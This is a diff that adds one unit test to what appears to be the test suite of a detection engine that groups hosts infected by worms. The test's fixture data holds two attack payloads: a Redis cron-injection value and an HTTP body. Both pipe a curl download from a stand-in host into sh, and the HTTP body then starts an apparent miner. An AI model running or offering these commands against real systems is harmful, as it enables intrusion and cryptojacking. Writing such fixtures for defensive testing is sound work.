@@ -208,6 +208,19 @@ def test_nine_hosts_of_as_many_systems_are_infected_by_a_worm_and_nine_of_one_ar
     assert several(engine) == (groups(hosts) if one else set())
 
 
+def test_what_some_hosts_of_a_worm_show_by_another_way_in_joins_them_no_more_than_its_server(engine: Engine) -> None:
+    stored = ServiceRequest(service="redis", action="SET", detail={"ARGS": "y * * * * curl http://w.example.net/r|sh"})
+    mined = HttpRequest(method="POST", target="/x", body=f"curl http://w.example.net/s | sh; m -u 4{'7Kq3' * 23}Zp")
+    by_redis, by_web = [f"198.51.{number}.7" for number in range(9)], [f"203.0.{number}.7" for number in range(3)]
+    sent = [
+        event(each, shown, DAY * place)
+        for place, each in enumerate((*by_redis, *by_web))
+        for shown in (stored if each in by_redis else mined, stack(f"system {place}"))
+    ]
+    Follower(engine).run([*crowd(), *sent])
+    assert several(engine) == set()
+
+
 def test_a_certificate_of_four_whose_keys_contradict_each_other_joins_none_of_them(engine: Engine) -> None:
     default = CertificateProbed(contact=START + SECOND, sha256="d" * 64, subject="CN=default")
     users = [f"198.51.{number}.7" for number in range(4)]
